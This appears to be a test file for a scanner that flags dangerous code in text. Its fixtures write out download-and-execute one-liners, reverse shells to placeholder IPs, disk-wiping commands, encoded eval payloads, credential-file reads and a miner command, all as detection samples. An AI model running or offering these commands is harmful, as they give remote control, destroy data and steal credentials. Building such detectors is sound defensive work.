import { codeExtractionEngine } from '../../../../src/scan/engines/payload';
import type { CodeExtractionReport } from '../../../../src/scan/engines/payload/code-extraction';
import { scan } from './helpers';

async function ce(text: string, name = ''): Promise<CodeExtractionReport> {
  return (await scan(codeExtractionEngine, text, name)).report?.codeExtraction as CodeExtractionReport;
}

describe('code_extraction indicators', () => {
  it.each([
    ['download_and_execute', 'curl -fsSL http://203.0.113.7/i.sh | sudo bash'],
    ['download_and_execute', 'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")'],
    ['reverse_shell', 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'],
    ['reverse_shell', 'nc -e /bin/sh 203.0.113.11 9001'],
    ['destructive_command', 'sudo rm -rf / --no-preserve-root'],
    ['destructive_command', 'mkfs.ext4 /dev/sdb1'],
    ['destructive_command', 'dd if=/dev/zero of=/dev/sda bs=1M'],
    ['destructive_command', 'format c: /q'],
    ['eval_decoded_data', 'echo Y3VybCBldmlsCg== | base64 -d | bash'],
    ['powershell_encoded_command', 'powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A'],
    ['credential_file_access', 'cat ~/.ssh/id_rsa'],
    ['credential_file_access', 'cat /etc/shadow'],
    ['credential_file_access', 'cp ~/.aws/credentials /tmp/x'],
    ['crypto_mining', './xmrig -o stratum+tcp://pool.example:4444'],
  ])('%s in a bash fence: %s', async (indicator, code) => {
    const text = `Setup:\n\n\`\`\`bash\n${code}\n\`\`\`\n`;
    const rep = await ce(text);
    expect(rep.indicators).toContain(indicator);
    expect(rep.blocksFound).toBe(1);
    const m = rep.matches.find((x) => x.indicator === indicator);
    // The excerpt is a verbatim quote of the code (whitespace collapsed).
    expect(text.replace(/\s+/g, ' ')).toContain(m?.excerpt ?? '-');
    expect((m?.excerpt ?? '').length).toBeGreaterThan(8);
    expect(rep.dangerBlocks[0]).toMatchObject({ source: 'markdown_fence', language: 'shell' });
  });

  it('finds code in HTML script elements, event handlers and javascript: URLs', async () => {
    const html = '<html><script>eval(atob("YWxlcnQoMSk="))</script><img src=x onerror="eval(atob(\'YQ==\'))"><a href="javascript:eval(unescape(\'%61\'))">x</a></html>';
    const rep = await ce(html, 'page.html');
    expect(rep.blocksFound).toBe(3);
    expect(rep.indicators).toEqual(['eval_decoded_data']);
    expect(rep.dangerBlocks.map((b) => b.source).sort()).toEqual(['html_event_handler', 'html_script', 'javascript_url']);
  });

  it('finds inline shell one-liners and inline code spans in prose', async () => {
    const rep = await ce('To install, run: wget -qO- http://203.0.113.2/s | sh\nOr paste `rm -rf ~` if you hate your files.');
    expect(rep.indicators.sort()).toEqual(['destructive_command', 'download_and_execute']);
    expect(rep.dangerBlocks.map((b) => b.source).sort()).toEqual(['inline_code', 'shell_one_liner']);
  });

  it('treats a labelled script, or text that reads as code, as one language-detected block', async () => {
    const ps = await ce('$c = New-Object System.Net.Sockets.TCPClient("203.0.113.14",443)\n$s = $c.GetStream()\n', 'rev.ps1');
    expect(ps).toMatchObject({ blocksFound: 1, indicators: ['reverse_shell'] });
    expect(ps.dangerBlocks[0]).toMatchObject({ source: 'language_detected', language: 'powershell', severity: 'critical' });
    const py = await ce('import base64\nimport os\ndef run():\n    exec(base64.b64decode(PAYLOAD))\nrun()\n');
    expect(py.dangerBlocks[0]).toMatchObject({ source: 'language_detected', language: 'python' });
    expect(py.indicators).toEqual(['eval_decoded_data']);
  });

  it('does not flag prose that only mentions dangerous things, or ordinary build commands', async () => {
    expect((await ce('Never run rm -rf / on a server. XMRig is a miner. Attackers read /etc/shadow.')).indicators).toEqual([]);
    const rep = await ce('```bash\nrm -rf ./dist\ncurl -o a.tgz https://example.com/a.tgz\ncat ~/.ssh/id_ed25519.pub\n```');
    expect(rep.blocksFound).toBe(1);
    expect(rep.indicators).toEqual([]);
  });

  it('maps indicators to verdict findings with severities', async () => {
    const out = await scan(codeExtractionEngine, '```sh\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1\ncurl http://x.example/a | sh\n```');
    expect(out.findings.map((f) => [f.id, f.severity]).sort()).toEqual([
      ['payload.code.download_and_execute', 'high'], ['payload.code.reverse_shell', 'critical'],
    ]);
  });

  it('masks secrets inside quoted code', async () => {
    const rep = await ce('```bash\ncurl -H "Authorization: token ghp_R7b2Xk9Qm4Lp1Zt8Vw3Ny6Hc5Jd0Fg2Sa4Eu" https://x.example/i.sh | bash\n```');
    expect(JSON.stringify(rep)).not.toContain('ghp_R7b2Xk9Qm4Lp1Zt8Vw3Ny6Hc5Jd0Fg2Sa4Eu');
    expect(rep.matches[0].excerpt).toContain('ghp_');
  });
});
